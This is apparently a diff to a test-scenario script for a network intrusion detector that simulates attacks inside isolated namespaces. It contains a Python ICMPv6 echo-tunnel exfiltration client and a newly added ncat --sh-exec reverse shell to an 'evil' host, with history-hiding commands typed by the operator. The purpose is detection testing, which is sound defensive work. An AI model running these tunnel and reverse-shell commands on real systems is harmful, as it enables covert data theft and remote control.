@@ -3214,12 +3214,13 @@ scn_v6_benign_first_router_radvd() {
 	inns pc2 sysctl -qw net.ipv6.conf.all.forwarding=0
 }
 # ICMPv6 echo tunnel (det37b): a Python raw-socket client on the PC sends
-# /etc/services in 480-byte chunks inside echo requests to the NAS's
-# ULA (an exfiltration through ping -6's shape); the NAS's kernel echoes.
+# a 35 kB text file (the GPL) in 480-byte chunks inside echo requests to
+# the NAS's ULA (an exfiltration through ping -6's shape); the NAS's
+# kernel echoes.
 scn_icmp6_tunnel_python() {
 	inns pc "$py" -c 'import socket, struct, time
 s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
-data = open("/etc/services", "rb").read()
+data = open("/usr/share/common-licenses/GPL-3", "rb").read()
 for seq in range(60):
     chunk = data[seq * 480:(seq + 1) * 480].ljust(480, b"\0")
     s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0x5137, seq) + chunk, ("'$ULA'::30", 0))
@@ -3234,6 +3235,19 @@ scn_benign_icmp6_pings() {
 	for sz in 1452 1400 1300 1200 1000 800; do inns pc ping -6 -q -M do -c 2 -i 0.1 -s $sz "$ULA::30" || true; done
 	inns pc2 ping -6 -q -c 40 -i 0.05 -s 200 "$ULA::30" || true
 	sleep 1
+}
+# Session 37 (det37b): a reverse shell whose only tell is dash's bare
+# prompt "# " (2 bytes): sh +m -i (no job control, so no "can't access
+# tty" banner) over ncat --sh-exec, the operator typing commands that
+# print nothing (cd, export, a download into a file), each answered by
+# the prompt alone.
+scn_revshell_dash_bare_prompt() {
+	(sleep 1.5; echo 'cd /tmp'; sleep 0.7; echo 'export HISTFILE=/dev/null'; sleep 0.7; echo 'umask 077'; sleep 0.7; echo exit; sleep 1) |
+		inns evil timeout 10 ncat -l 4449 >"$tmp/operator.4449" 2>&1 &
+	local op=$!
+	sleep 0.5
+	inns nas timeout 8 ncat "$NET.66" 4449 --sh-exec 'exec sh +m -i 2>&1' || true
+	wait $op || true
 }
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
